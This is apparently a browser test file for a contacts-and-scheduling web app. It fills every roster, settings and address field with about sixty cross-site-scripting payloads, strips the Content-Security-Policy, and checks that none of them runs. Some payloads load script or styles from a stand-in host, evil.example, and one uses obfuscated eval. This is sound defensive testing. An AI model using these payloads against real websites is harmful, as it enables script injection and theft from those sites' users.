// SPDX-License-Identifier: MIT
// Markup and script of all usual kinds in every field of the roster, the settings and the ledger, and in every address,
// with the Content-Security-Policy taken off: nothing runs.
import assert from "node:assert/strict";
import {after, before, test} from "node:test";
import {browse, links_in, open_browser, sign_in, start} from "./world.mjs";

const payloads = [
  "<script>hit()</script>", "<ScRiPt>hit()</sCrIpT>", "<script src=//evil.example/x.js></script>", "</script><script>hit()</script>",
  "<img src=x onerror=hit()>", "<img src=x onerror=\"hit()\">", "<IMG SRC=x ONERROR=hit()>", "<img/src=x/onerror=hit()>",
  "<img src='x' onerror='hit()'>", "<img src=x:x onerror=hit`1`>", "<svg onload=hit()>", "<svg/onload=hit()>",
  "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:hit()\"><text>x</text></a></svg>",
  "<svg><set onbegin=hit() attributename=x dur=1s>", "<body onload=hit()>", "<iframe src=\"javascript:parent.hit()\"></iframe>",
  "<iframe srcdoc=\"<script>parent.hit()</script>\"></iframe>", "<object data=\"javascript:hit()\"></object>", "<embed src=\"javascript:hit()\">",
  "<details open ontoggle=hit()>x</details>", "<input autofocus onfocus=hit()>", "<select autofocus onfocus=hit()></select>",
  "<textarea autofocus onfocus=hit()></textarea>", "</textarea><script>hit()</script>", "</title><script>hit()</script>",
  "</style><script>hit()</script>", "\"><script>hit()</script>", "'><script>hit()</script>", "\" autofocus onfocus=hit() x=\"",
  "' autofocus onfocus=hit() x='", "\" onmouseover=\"hit()", "javascript:hit()", "JaVaScRiPt:hit()", "data:text/html,<script>opener.hit()</script>",
  "<a href=\"javascript:hit()\" id=press>x</a>", "<form action=\"javascript:hit()\"><button id=press>x</button></form>",
  "<button formaction=\"javascript:hit()\">x</button>", "<video><source onerror=hit()></video>", "<audio src=x onerror=hit()>",
  "<marquee onstart=hit()>x</marquee>", "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
  "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">", "<!--><img src=x onerror=hit()>-->", "<![CDATA[><img src=x onerror=hit()>]]>",
  "<template><script>hit()</script></template><img src=x onerror=hit()>", "&lt;img src=x onerror=hit()&gt;", "&#60;script&#62;hit()&#60;/script&#62;",
  "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "%3Cscript%3Ehit()%3C/script%3E", "+ADw-script+AD4-hit()+ADw-/script+AD4-",
  "＜script＞hit()＜/script＞", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:hit()\">",
  "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "${hit()}{{hit()}}<%= hit() %>",
  "<x contenteditable autofocus onfocus=hit()>x</x>", "<img src=x onerror=eval(atob('aGl0KCk='))>",
];

const text = (value) => JSON.stringify(value); // a basic string of TOML reads the same
const roster = payloads.map((p, i) => `
[circles.c${i}]
name = ${text(p)}
every = "1 month"
[people.p${i}]
name = ${text(p)}
circles = ["c${i}"]
phone = "+44 20 7946 ${String(i).padStart(4, "0")}"
address = ${text(p)}
met = ${text(p)}
topics = [${text(p)}, ${text("x " + p)}]
notes = ${text(p)}
birthday = 1985-12-${String(1 + i % 28).padStart(2, "0")}
last = 2026-10-02
household = "h${i % 5}"
[[people.p${i}.occasions]]
name = ${text(p)}
on = "12-${String(1 + i % 28).padStart(2, "0")}"
`).join("") + `
[gatherings.g]
name = ${text(payloads[28] + payloads[4])}
members = ["p0", "p1"]
every = "1 year"
book = "6 months"
last = 2026-02-08
`;
const settings = `timezone = "Europe/Berlin"
[calendar]
name = ${text(payloads[28])}
[blocks.calls]
name = ${text(payloads[4] + payloads[28])}
when = ["Mon-Sun 09:00-12:00", "Mon-Sun 16:00-18:00"]
with = ${text(payloads[4])}
[[away]]
from = 2027-01-10
what = ${text(payloads[4])}
`;

let browser, world;
before(async () => {
  world = await start({roster, settings, moment: "2026-12-01 07:00:00"});
  browser = await open_browser();
});
after(async () => {
  await browser?.close();
  await world?.stop();
});

/// Runs nothing of ours, and counts what runs. The policy of the answers is taken off.
const bait = async (page) => {
  page.hits = 0;
  page.strange = [];
  await page.exposeFunction("hit", () => { ++page.hits; });
  await page.addInitScript(() => {
    for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => window.hit();
  });
  await page.route("**/*", async (route) => {
    const url = route.request().url();
    if (!url.startsWith(world.own) && !url.startsWith(`http://127.0.0.1:${world.public}/`)) {
      page.strange.push(url);
      return route.abort();
    }
    if (url.endsWith("/api/v1/events")) return route.abort();
    const answer = await route.fetch({maxRedirects: 0});
    const headers = answer.headers();
    delete headers["content-security-policy"];
    return route.fulfill({response: answer, headers}).catch((error) => {
      if (!error.message.includes("disposed")) throw error; // else the browser went on, and waits for this answer no more
    });
  });
};

/// Touches everything that has a handler of its own, and lists what the page's own markup never has.
const provoke_in = (page) => {
  for (const folded of page.querySelectorAll("details")) folded.open = true;
  for (const one of page.querySelectorAll("main *")) {
    for (const kind of ["mouseover", "focus", "toggle", "load", "error"]) one.dispatchEvent(new Event(kind));
    one.focus?.();
  }
  const strange = "iframe,object,embed,img,video,audio,base,marquee,math,template,noscript,script:not([src='/page.js'])," +
    "meta[http-equiv],link:not([href='/style.css'],[href='data:,']),body style,svg *:not(rect,text,path)";
  const handled = [...page.querySelectorAll("*")].filter((one) => [...one.attributes].some((a) => a.name.startsWith("on") ||
    /^\s*(javascript|data|vbscript):/i.test(a.value) && ["href", "src", "action", "formaction"].includes(a.name) && one.tagName !== "LINK"));
  return [...page.querySelectorAll(strange), ...handled].map((one) => one.outerHTML.slice(0, 120));
};
const provoke = (page) => page.evaluate(`(${provoke_in})(document)`);
const parse_in_frame = (page, html) => page.evaluate(`(async (html) => {
  const frame = document.body.appendChild(document.createElement("iframe"));
  frame.contentWindow.hit = () => window.hit();
  frame.contentDocument.open();
  frame.contentDocument.write(html.replace('<link rel="stylesheet" href="/style.css">', "").replace('<script src="/page.js" defer></script>', ""));
  frame.contentDocument.close();
  const found = (${provoke_in})(frame.contentDocument);
  await new Promise((done) => setTimeout(done));
  frame.remove();
  return found;
})(${JSON.stringify(html).replaceAll("<", "\\u003c")})`);

test("the payloads run where nothing escapes them, so that this test can fail", async () => {
  const page = await browse(browser);
  await bait(page);
  await sign_in(page, world);
  await page.goto(world.own + "/setup"); // what a redirect led to kept its policy
  let ran = 0;
  let found = 0;
  for (const payload of payloads) {
    page.hits = 0;
    if ((await parse_in_frame(page, `<!DOCTYPE html><main>${payload}</main>`)).length > 0) ++found;
    if (page.hits > 0) ++ran;
  }
  assert(found >= 40, `found: ${found} of ${payloads.length}`);
  assert(payloads.length >= 44, "payloads");
  assert(ran >= 20, `ran: ${ran} of ${payloads.length}`);
  console.log(`# ${ran} of ${payloads.length} payloads run where nothing escapes them`);
  await page.context().close();
});

test("none runs on any screen", async () => {
  for (const [i, payload] of payloads.entries()) {
    await world.api("POST", `/api/v1/people/p${i}/note`, {note: payload});
    if (i % 3 === 1) await world.api("POST", `/api/v1/people/p${i}/promise`, {to: "in 2 weeks", note: payload});
    if (i % 3 === 0) await world.api("POST", `/api/v1/people/p${i}/log`, {outcome: i % 2 ? "no_answer" : "reached", note: payload});
  }
  await world.api("POST", "/api/v1/away", {from: "2027-03-01", note: payloads[4]});
  await world.api("POST", "/api/v1/gatherings/g/log", {outcome: "booked", to: "2027-02-12", note: payloads[28]});
  await world.clock("2026-12-01 11:30:00");
  const links = links_in(await world.events());
  const page = await browse(browser);
  await sign_in(page, world);
  await bait(page);
  const newest = (await world.entries()).at(-1).id;
  const e = encodeURIComponent;
  const own = (path) => world.own + path;
  for (const address of ["/", "/?minutes=30", `/?said=${newest}`, "/people", "/ahead", "/setup", "/gatherings/g", "/people/p4",
    "/people/p28"].map(own).concat(links.slice(0, 3))) {
    await page.goto(address, {waitUntil: "domcontentloaded"});
    assert.deepEqual(await provoke(page), [], address);
  }
  // The rest is parsed by the same browser in frames of one page: a new page each would take minutes.
  await page.goto(own("/setup"));
  const rest = payloads.flatMap((p, i) => [`/people/p${i}`, `/people?find=${e(p)}`, `/people/${e(p.replaceAll(/[/\\]/g, " "))}`, `/?said=${e(p)}`].slice(0, i % 4 ? 3 : 4).map((path) => [path, null])
    .concat([["/act", {do: "pause", back: `/people/p${i}`, person: "p" + i, to: p, note: p}]]));
  let parsed = 0;
  for (const [path, form] of rest) {
    const html = await page.evaluate(async ([path, form]) =>
      (await fetch(path, form ? {method: "POST", body: new URLSearchParams(form)} : {headers: {Accept: "text/html"}})).text(), [path, form]);
    assert.match(html, /^<!DOCTYPE html>/, path);
    assert.deepEqual(await parse_in_frame(page, html), [], path);
    ++parsed;
  }
  await page.waitForTimeout(500);
  assert.equal(page.hits, 0, "ran");
  assert.deepEqual(page.strange, [], "asked of others");
  console.log(`# ${payloads.length} payloads on ${parsed + 12} screens: ${page.hits} ran`);
  await page.context().close();
});
